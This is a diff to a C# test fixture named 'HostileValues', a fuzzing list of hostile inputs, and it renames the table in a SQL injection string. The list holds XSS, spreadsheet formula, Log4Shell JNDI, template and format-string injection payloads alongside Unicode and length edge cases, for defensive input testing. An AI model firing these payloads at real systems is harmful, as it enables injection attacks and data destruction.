@@ -24,7 +24,7 @@ public sealed class HostileValues(int seed)
         "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-1+1",
         "\ud800", "\udfff", "a\ud800b", "\uffff", "\ufeffS1", "\u202eS1", "😀", "中文工地", "S1\u200b", "ＳＩ", "İ", "ß",
         "%00", "%", "%zz", "%C0%AF", "%FF%FE", "+", "&", "=", ";", ",", "a,b", "*", "?", "#",
-        "${jndi:ldap://x/a}", "{{7*7}}", "%s%s%s%n", "'; DROP TABLE Assignments; --", "\" OR \"\"=\"", "admin", "Administrator",
+        "${jndi:ldap://x/a}", "{{7*7}}", "%s%s%s%n", "'; DROP TABLE Visits; --", "\" OR \"\"=\"", "admin", "Administrator",
         "S1_20269999", "S1_2026071", "_20260715", "S1__20260715", "S1_20260715_", "S1 20260715", "s1_20260715",
         new string('a', 129), new string('a', 1024), new string('x', 10_000), new string('\'', 300), new string('%', 100),
     ];
